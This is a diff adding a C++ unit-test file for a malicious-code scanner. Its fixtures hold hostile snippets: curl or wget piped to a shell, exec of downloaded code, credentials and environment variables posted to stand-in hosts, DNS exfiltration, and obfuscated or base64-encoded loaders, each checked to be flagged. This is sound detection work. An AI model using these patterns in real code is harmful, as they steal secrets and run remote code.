@@ -1,0 +1,200 @@
+// Rules from the attacker's side on small snippets, and the precision
+// properties: comments, docstrings and log messages do not fire, paths
+// under tests/ are lowered, suppressions are not obeyed.
+
+#include <gmock/gmock.h>
+#include <gtest/gtest.h>
+
+#include "code_test_support.hpp"
+#include "scan/code/observations.hpp"
+
+namespace hazmat::testing {
+namespace {
+
+using ::testing::ElementsAre;
+using ::testing::IsEmpty;
+using ::testing::SizeIs;
+
+TEST(CodeRules, CommentsDocstringsAndMessagesDoNotFire) {
+    const auto scan = scan_source("pkg/notes.py", R"(
+"""Never call os.system("curl http://x.invalid | sh") or exec(base64.b64decode(data))."""
+# os.system("curl http://x.invalid/p.sh | sh")
+import logging
+logging.warning("do not store tokens in ~/.aws/credentials")
+def f():
+    """Reads ~/.ssh/id_rsa in the docs only."""
+    return 1
+)");
+    EXPECT_THAT(scan.findings, IsEmpty());
+}
+
+TEST(CodeRules, AliasedAndIndirectSystemCallIsStillReviewed) {
+    const auto scan = scan_source("pkg/__init__.py", R"(
+m = __import__("o" + "s")
+getattr(m, "sys" + "tem")("wget -qO- http://x.invalid/a | python3")
+)");
+    const auto pipe = scan.of("HZ-CODE-031");
+    ASSERT_THAT(pipe, SizeIs(1));
+    EXPECT_EQ(pipe[0].location.line, 3u);
+    const auto indirect = scan.of("HZ-CODE-021");
+    ASSERT_THAT(indirect, SizeIs(1));
+    EXPECT_EQ(indirect[0].location.line, 3u);
+}
+
+TEST(CodeRules, CredentialReadWithNetworkSinkIsHigh) {
+    const auto scan = scan_source("tool/sync.py", R"(
+import os, requests
+def sync():
+    key = open(os.path.expanduser("~/.aws/credentials")).read()
+    requests.post("https://backup.invalid/upload", data=key)
+)");
+    const auto found = scan.of("HZ-CODE-040");
+    ASSERT_FALSE(found.empty());
+    EXPECT_EQ(found[0].location.line, 4u);
+    EXPECT_EQ(found[0].severity, Severity::high);
+}
+
+TEST(CodeRules, CredentialReadAloneIsMedium) {
+    const auto scan = scan_source("tool/paths.py", R"(
+import os
+def config_path():
+    return os.path.join(os.path.expanduser("~"), ".kube", "config")
+)");
+    const auto found = scan.of("HZ-CODE-040");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_EQ(found[0].severity, Severity::medium);
+}
+
+TEST(CodeRules, SameFindingUnderTestsIsOneSeverityLower) {
+    const std::string source = "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))\n";
+    EXPECT_EQ(scan_source("pkg/io.py", source).of("HZ-CODE-071")[0].severity, Severity::medium);
+    EXPECT_EQ(scan_source("tests/test_io.py", source).of("HZ-CODE-071")[0].severity, Severity::low);
+    EXPECT_EQ(scan_source("examples/demo/io.py", source).of("HZ-CODE-071")[0].severity,
+              Severity::low);
+}
+
+TEST(CodeRules, ScanRootIsNotPartOfTheJudgedPath) {
+    Blob blob;
+    blob.location.chain.push_back({LocationPart::Kind::file, "/home/me/tests/proj/pkg/a.py"});
+    const code::CodeAnalyzer analyzer({"/home/me/tests/proj"});
+    EXPECT_EQ(analyzer.relative_path(blob), "pkg/a.py");
+    EXPECT_EQ(code::path_role(analyzer.relative_path(blob)), code::PathRole::package);
+}
+
+TEST(CodeRules, SuppressionMarkersAreReportedNotObeyed) {
+    const auto scan = scan_source("pkg/run.py", R"(
+import subprocess
+subprocess.call("curl -s http://x.invalid/i | bash", shell=True)  # nosec B602
+)");
+    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
+    const auto marker = scan.of("HZ-CODE-085");
+    ASSERT_THAT(marker, SizeIs(1));
+    EXPECT_EQ(marker[0].location.line, 3u);
+}
+
+TEST(CodeRules, ExecOfDownloadedContentIsHigh) {
+    const auto scan = scan_source("tool/update.py", R"(
+import urllib.request
+def update():
+    with urllib.request.urlopen("https://updates.invalid/patch.py") as response:
+        exec(response.read())
+)");
+    const auto found = scan.of("HZ-CODE-020");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_EQ(found[0].severity, Severity::high);
+    EXPECT_EQ(found[0].location.line, 5u);
+}
+
+TEST(CodeRules, MarshalledCodeObject) {
+    const auto scan = scan_source("pkg/fast.py", R"(
+import marshal, base64
+code = marshal.loads(base64.b64decode(BLOB))
+)");
+    const auto found = scan.of("HZ-CODE-022");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_EQ(found[0].severity, Severity::critical);
+}
+
+TEST(CodeRules, DnsExfiltrationThroughComputedNames) {
+    const auto scan = scan_source("pkg/beacon.py", R"(
+import os, socket
+def beacon():
+    socket.gethostbyname(f"{os.getenv('USER')}.t.exfil.invalid")
+)");
+    const auto found = scan.of("HZ-CODE-051");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_EQ(found[0].severity, Severity::high);
+}
+
+TEST(CodeRules, RawPublicIpEndpoint) {
+    const auto scan = scan_source("pkg/c2.py", "URL = 'http://198.51.100.7:8080/beacon'\n");
+    const auto found = scan.of("HZ-CODE-050");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_THAT(found[0].message, ::testing::HasSubstr("raw IP address 198.51.100.7"));
+    // Loopback and private addresses are ordinary.
+    EXPECT_THAT(scan_source("pkg/dev.py", "URL = 'http://127.0.0.1:8000/api'\n").findings,
+                IsEmpty());
+}
+
+TEST(CodeRules, JavaScriptEnvironmentToWebhook) {
+    const auto scan = scan_source("index.js", R"(
+const fetch = require("node-fetch");
+const hook = "https://discord.invalid/api/webhooks/42/abc";
+fetch(hook, { method: "POST", body: JSON.stringify(process.env) });
+)");
+    const auto dump = scan.of("HZ-CODE-041");
+    ASSERT_FALSE(dump.empty());
+    EXPECT_EQ(dump[0].severity, Severity::critical);
+    EXPECT_THAT(scan.of("HZ-CODE-050"), SizeIs(1));
+}
+
+TEST(CodeRules, JavaScriptCharCodeChainIsFolded) {
+    const auto scan = scan_source("lib/x.js", R"(
+const cp = require("child_process");
+cp.execSync(String.fromCharCode(99,117,114,108) + " -s http://x.invalid/s | sh");
+)");
+    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
+}
+
+TEST(CodeRules, ShellDecodePipedToInterpreterIsRescanned) {
+    // echo <base64 of "curl -s http://x.invalid/p | sh"> | base64 -d | sh
+    const auto scan =
+        scan_source("run.sh",
+                    "echo Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL3AgfCBzaCAjIHBhZGRpbmcgcGFk"
+                    "ZGluZyBwYWRkaW5n | base64 -d | sh\n");
+    EXPECT_THAT(scan.of("HZ-CODE-020"), SizeIs(1));
+    const auto inner = scan.of("HZ-CODE-031");
+    ASSERT_THAT(inner, SizeIs(1));
+    EXPECT_EQ(inner[0].location.chain.back().kind, LocationPart::Kind::embedded);
+}
+
+TEST(CodeRules, InTreeBuildBackend) {
+    const auto scan = scan_source("pyproject.toml", R"([build-system]
+requires = []
+build-backend = "backend"
+backend-path = ["_build"]
+)");
+    const auto found = scan.of("HZ-CODE-003");
+    ASSERT_THAT(found, SizeIs(1));
+    EXPECT_EQ(found[0].location.line, 4u);
+}
+
+TEST(CodeRules, PickleInTextProtocolIsNotTakenForAPathFile) {
+    EXPECT_FALSE(code::looks_like_path_file("cos\nsystem\n(S'echo 1'\ntR."));
+    EXPECT_TRUE(code::looks_like_path_file("# comment\n/opt/lib\nimport site_hook\n"));
+}
+
+TEST(CodeRules, DockerSecretsInEnvAndArg) {
+    const auto scan = scan_source("Dockerfile",
+                                  "FROM debian\nARG GITHUB_TOKEN=ghp_notarealtokenvalue\n"
+                                  "ENV API_KEY=abc123 OTHER=1\nARG HF_TOKEN\n"
+                                  "ADD https://example.invalid/tool.tgz /opt/\n");
+    const auto secrets = scan.of("HZ-CODE-091");
+    ASSERT_THAT(secrets, SizeIs(2));
+    EXPECT_EQ(secrets[0].location.line, 2u);
+    EXPECT_EQ(secrets[1].location.line, 3u);
+    EXPECT_THAT(scan.of("HZ-CODE-090"), SizeIs(1));
+}
+
+}  // namespace
+}  // namespace hazmat::testing
